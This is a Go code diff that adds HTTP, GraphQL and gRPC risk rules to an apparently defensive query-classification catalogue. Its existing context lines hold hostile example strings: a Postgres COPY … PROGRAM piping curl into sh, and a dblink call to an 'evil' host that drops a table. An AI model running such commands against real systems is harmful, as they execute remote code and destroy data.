@@ -73,6 +73,16 @@ const (
 	ReachProgram = "reach.program"
 	ReachNetwork = "reach.network"
 	ReachPlugin  = "reach.plugin"
+
+	// HTTP APIs: method semantics, route rules, GraphQL and gRPC.
+	HTTPWrite            = "http.write"
+	HTTPDelete           = "http.delete"
+	HTTPMethod           = "http.method"
+	HTTPAdmin            = "http.admin"
+	HTTPWebSocket        = "http.websocket"
+	GraphQLMutation      = "graphql.mutation"
+	GraphQLIntrospection = "graphql.introspection"
+	GRPCCall             = "grpc.call"
 )
 
 // Info describes one rule of the catalogue.
@@ -95,6 +105,7 @@ var (
 	rds    = []protocols.Protocol{protocols.Redis}
 	myRds  = []protocols.Protocol{protocols.MySQL, protocols.Redis}
 	stores = []protocols.Protocol{protocols.Postgres, protocols.MySQL, protocols.Redis}
+	web    = []protocols.Protocol{protocols.HTTP}
 )
 
 // AppliesTo reports whether analyzers of protocol p can give the rule.
@@ -168,6 +179,15 @@ var catalogue = []Info{
 	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, archive_command and other command settings, GRANT pg_execute_server_program, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'", sql},
 	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, primary_conninfo, MySQL CREATE SERVER, FEDERATED/CONNECT engines, CLONE, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')", stores},
 	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, *_preload_libraries and dynamic_library_path settings, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'", stores},
+
+	{HTTPWrite, protocols.RiskLow, "HTTP request whose method changes state (POST, PUT, PATCH) on a route no rule of the connection classifies.", "POST /v1/orders", web},
+	{HTTPDelete, protocols.RiskHigh, "HTTP DELETE: removes a resource, with whatever cascade the API gives it.", "DELETE /v1/users/7", web},
+	{HTTPMethod, protocols.RiskHigh, "HTTP method outside GET, HEAD, OPTIONS, POST, PUT, PATCH and DELETE (TRACE, CONNECT, WebDAV and custom methods); fails closed.", "TRACE /", web},
+	{HTTPAdmin, protocols.RiskHigh, "Request to a route the connection's rules name administrative.", "POST /admin/users", web},
+	{HTTPWebSocket, protocols.RiskMedium, "Opens a WebSocket: the messages that follow in both directions are relayed, masked and recorded, not classified one by one.", "GET /v1/stream (Upgrade: websocket)", web},
+	{GraphQLMutation, protocols.RiskMedium, "GraphQL mutation: writes through the API, of an extent only the API knows.", "mutation { deleteUser(id: 7) { id } }", web},
+	{GraphQLIntrospection, protocols.RiskLow, "GraphQL introspection (__schema, __type): reads the API's whole schema.", "{ __schema { types { name } } }", web},
+	{GRPCCall, protocols.RiskMedium, "Calls a gRPC method that no route rule of the connection classifies: Airlock cannot tell a read from a write.", "/shop.Orders/Cancel", web},
 }
 
 var byID = func() map[string]Info {
